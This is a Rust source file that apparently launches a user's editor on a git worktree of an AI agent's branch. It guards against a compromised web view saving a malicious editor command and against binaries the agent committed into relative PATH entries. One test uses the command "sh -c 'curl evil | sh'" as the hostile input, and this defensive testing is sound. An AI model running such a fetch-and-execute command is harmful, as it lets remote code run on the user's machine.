//! "Open in editor": the user's editor on a checkout of the attempt's branch.
//!
//! The editor command is the user's setting (`berth config editor`, the app's Settings),
//! else `$VISUAL` (passed in by the binary), else `code`. It is split like a shell would
//! split it (no shell runs) and gets the checkout's path as its last argument. The checkout
//! is a linked worktree of the user's repo under `<data>/checkouts/`, made with libgit2 from
//! the imported branch, never from the guest's workspace.

use std::ffi::OsStr;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use berth_db::AttemptId;
use berth_git::Limits;
use serde_json::json;

use crate::task::{TaskError, audit, pull_attempt};
use crate::{Clock, Store};

/// The settings key of the editor command.
pub const EDITOR_SETTING: &str = "editor";

/// The settings key of the editor command the user confirmed from a trusted place (the CLI,
/// or the app's native dialog): a command saved by the app's web view runs only once it is
/// confirmed, so a compromised view cannot turn "Open in editor" into "run this".
pub const EDITOR_CONFIRMED_SETTING: &str = "editor-confirmed";

/// The editor used when neither the setting nor `$VISUAL` names one.
pub const DEFAULT_EDITOR: &str = "code";

/// Where an attempt was opened, and with what.
#[derive(Debug, Clone)]
pub struct Opened {
    pub path: PathBuf,
    pub branch: String,
    pub argv: Vec<String>,
    /// A terminal editor ran in the foreground and has exited (a graphical one is left
    /// running).
    pub waited: bool,
}

/// Editors that draw in the terminal they are started from: they run in the foreground on
/// the user's terminal, never detached with their terminal discarded.
const TERMINAL_EDITORS: &[&str] = &[
    "vi",
    "vim",
    "nvim",
    "view",
    "vim.basic",
    "vim.tiny",
    "nano",
    "pico",
    "micro",
    "hx",
    "helix",
    "kak",
    "joe",
    "jed",
    "ne",
    "mg",
    "emacs-nox",
    "ed",
    "mcedit",
];

/// Whether `argv` runs an editor that needs a terminal (`emacs -nw` counts, GUI emacs not).
pub fn is_terminal_editor(argv: &[String]) -> bool {
    let name = Path::new(argv.first().map(String::as_str).unwrap_or(""))
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    TERMINAL_EDITORS.contains(&name.as_str())
        || (name.starts_with("emacs")
            && argv
                .iter()
                .any(|a| a == "-nw" || a == "--no-window-system" || a == "-t"))
}

/// The editor command in effect: the setting, else `visual`, else [`DEFAULT_EDITOR`].
pub fn editor_command(store: &Store, visual: Option<&str>) -> Result<String, TaskError> {
    let set = store.db()?.setting(EDITOR_SETTING)?;
    Ok(set
        .or_else(|| visual.map(str::to_string))
        .filter(|c| !c.trim().is_empty())
        .unwrap_or_else(|| DEFAULT_EDITOR.to_string()))
}

/// Saves the editor command (`None` or blank: back to `$VISUAL`/`code`). A command that
/// cannot be split (an unclosed quote) is refused and the old one kept. `confirmed`: the
/// user gave it from a trusted place (the CLI); from the app's web view it is not, and
/// [`editor_needing_confirmation`] then names it until [`confirm_editor_command`].
pub fn set_editor_command(
    store: &Store,
    command: Option<&str>,
    confirmed: bool,
) -> Result<(), TaskError> {
    let command = command.map(str::trim).filter(|c| !c.is_empty());
    if let Some(c) = command {
        split(c)?;
    }
    let mut db = store.db()?;
    db.set_setting(EDITOR_SETTING, command)?;
    if confirmed && let Some(c) = command {
        db.set_setting(EDITOR_CONFIRMED_SETTING, Some(c))?;
    }
    Ok(())
}

/// The saved editor command if it was never confirmed (`None`: nothing to ask; `$VISUAL`
/// and the default come from the user's own environment).
pub fn editor_needing_confirmation(store: &Store) -> Result<Option<String>, TaskError> {
    let db = store.db()?;
    let Some(set) = db.setting(EDITOR_SETTING)? else {
        return Ok(None);
    };
    let confirmed = db.setting(EDITOR_CONFIRMED_SETTING)?;
    Ok((confirmed.as_deref() != Some(set.as_str())).then_some(set))
}

/// Records that the user confirmed `command` (it must still be the saved one).
pub fn confirm_editor_command(store: &Store, command: &str) -> Result<(), TaskError> {
    let mut db = store.db()?;
    if db.setting(EDITOR_SETTING)?.as_deref() != Some(command) {
        return Err(TaskError::Refused(
            "the editor command changed while it was being confirmed; try again".into(),
        ));
    }
    Ok(db.set_setting(EDITOR_CONFIRMED_SETTING, Some(command))?)
}

fn split(command: &str) -> Result<Vec<String>, TaskError> {
    match shlex::split(command) {
        Some(argv) if !argv.is_empty() => Ok(argv),
        _ => Err(TaskError::Refused(format!(
            "the editor command `{command}` cannot be split into words (an unclosed quote?)"
        ))),
    }
}

/// The absolute path of `program`: as given when it is absolute, else the first executable
/// file of that name in `search_path`'s absolute entries. A relative name with a slash, and
/// empty, `.` or other relative PATH entries, are never used: the editor starts in a checkout
/// of the agent's branch, where such a lookup would run a program the agent committed.
pub fn resolve_program(program: &str, search_path: Option<&OsStr>) -> Result<PathBuf, TaskError> {
    let p = Path::new(program);
    if p.is_absolute() {
        return Ok(p.to_path_buf());
    }
    if program.contains('/') {
        return Err(TaskError::Refused(format!(
            "the editor `{program}` is a relative path; give an absolute path or a name on PATH"
        )));
    }
    std::env::split_paths(search_path.unwrap_or_default())
        .filter(|dir| dir.is_absolute())
        .map(|dir| dir.join(program))
        .find(|candidate| {
            candidate
                .metadata()
                .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
        })
        .ok_or_else(|| {
            TaskError::Refused(format!(
                "the editor `{program}` is not on PATH (only its absolute entries count); set \
                 the editor command with `berth config editor \"CMD\"` or in the app's Settings"
            ))
        })
}

/// Pulls the attempt if it has no branch yet, checks its branch out and starts the editor
/// on it (without waiting for the editor to exit). `search_path` is the user's `PATH`.
pub fn open_in_editor(
    store: &Store,
    id: AttemptId,
    visual: Option<&str>,
    search_path: Option<&OsStr>,
    limits: &Limits,
    clock: Clock,
    terminal: bool,
) -> Result<Opened, TaskError> {
    // An unknown attempt is said first, whatever the editor.
    let rec = store.db()?.attempt(id)?;
    if let Some(cmd) = editor_needing_confirmation(store)? {
        return Err(TaskError::Refused(format!(
            "the editor command `{cmd}` was saved in the app and is not confirmed yet; confirm \
             it in the app, or set it with `berth config editor`"
        )));
    }
    let mut argv = split(&editor_command(store, visual)?)?;
    argv[0] = resolve_program(&argv[0], search_path)?
        .to_string_lossy()
        .into_owned();
    let tui = is_terminal_editor(&argv);
    if tui && !terminal {
        return Err(TaskError::Refused(format!(
            "`{}` runs in a terminal, and this has none: run `berth open {id}` in a terminal, or \
             set a graphical editor with `berth config editor \"CMD\"` or in the app's Settings",
            argv.join(" ")
        )));
    }
    let still_there = |b: &String| {
        berth_git::branches(&rec.repo)
            .map(|all| all.contains(b))
            .unwrap_or(false)
    };
    let branch = match rec.branch.filter(still_there) {
        Some(b) => b,
        None => match pull_attempt(store, id, None, false, limits, clock)?.imported {
            Some(i) => i.branch,
            None => {
                return Err(TaskError::Refused(format!(
                    "attempt {id} changed nothing, so there is no branch to open"
                )));
            }
        },
    };
    let repo_name = rec
        .repo
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "repo".into());
    let name = format!("berth-{}-{}", id.task, id.n);
    let dest = store
        .data()
        .root()
        .join("checkouts")
        .join(format!("{repo_name}-{name}"));
    let checkout = berth_git::check_out_branch(&rec.repo, &branch, &dest, &name)?;
    let mut cmd = Command::new(&argv[0]);
    cmd.args(&argv[1..])
        .arg(&checkout.path)
        .current_dir(&checkout.path);
    if !tui {
        cmd.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            // Its own process group: closing Berth does not close the editor.
            .process_group(0);
    }
    let mut child = cmd.spawn().map_err(|e| {
        TaskError::Refused(format!(
            "cannot start the editor `{}`: {e}; set the editor command with \
                 `berth config editor \"CMD\"` or in the app's Settings (default: $VISUAL, \
                 then `code`)",
            argv[0]
        ))
    })?;
    if tui {
        // On the user's terminal, in the foreground: Berth returns when it does.
        let _ = child.wait();
    } else {
        // Reap it whenever it exits (a GUI editor's launcher usually returns at once).
        std::thread::spawn(move || child.wait());
    }
    audit(
        &mut store.db()?,
        clock,
        id,
        "open",
        json!({"branch": branch, "path": checkout.path, "editor": argv}),
    )?;
    Ok(Opened {
        path: checkout.path,
        branch,
        argv,
        waited: tui,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn executable(dir: &Path, name: &str) -> PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    }

    #[test]
    fn an_editor_saved_by_the_web_view_needs_the_users_confirmation() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::new(crate::DataDir::new(dir.path()));
        // A compromised web view saves a command of its choosing.
        set_editor_command(&store, Some("sh -c 'curl evil | sh'"), false).unwrap();
        assert_eq!(
            editor_needing_confirmation(&store).unwrap().as_deref(),
            Some("sh -c 'curl evil | sh'")
        );
        assert!(confirm_editor_command(&store, "something else").is_err());
        confirm_editor_command(&store, "sh -c 'curl evil | sh'").unwrap();
        assert_eq!(editor_needing_confirmation(&store).unwrap(), None);
        // The CLI is the user's own hand: confirmed as it is set.
        set_editor_command(&store, Some("vim"), true).unwrap();
        assert_eq!(editor_needing_confirmation(&store).unwrap(), None);
        set_editor_command(&store, Some("emacs"), false).unwrap();
        assert!(editor_needing_confirmation(&store).unwrap().is_some());
    }

    #[test]
    fn an_editor_the_agent_committed_is_never_found_through_relative_path_entries() {
        let bin = tempfile::tempdir().unwrap();
        let checkout = tempfile::tempdir().unwrap();
        let real = executable(bin.path(), "code");
        // The agent committed its own `code` into the checkout the editor starts in.
        executable(checkout.path(), "code");
        let path = std::env::join_paths([Path::new(""), Path::new("."), bin.path()]).unwrap();
        assert_eq!(resolve_program("code", Some(&path)).unwrap(), real);
        let only_relative = std::env::join_paths([Path::new("."), Path::new("bin")]).unwrap();
        assert!(resolve_program("code", Some(&only_relative)).is_err());
        assert!(resolve_program("./code", Some(&path)).is_err());
        assert_eq!(resolve_program(real.to_str().unwrap(), None).unwrap(), real);
    }
}
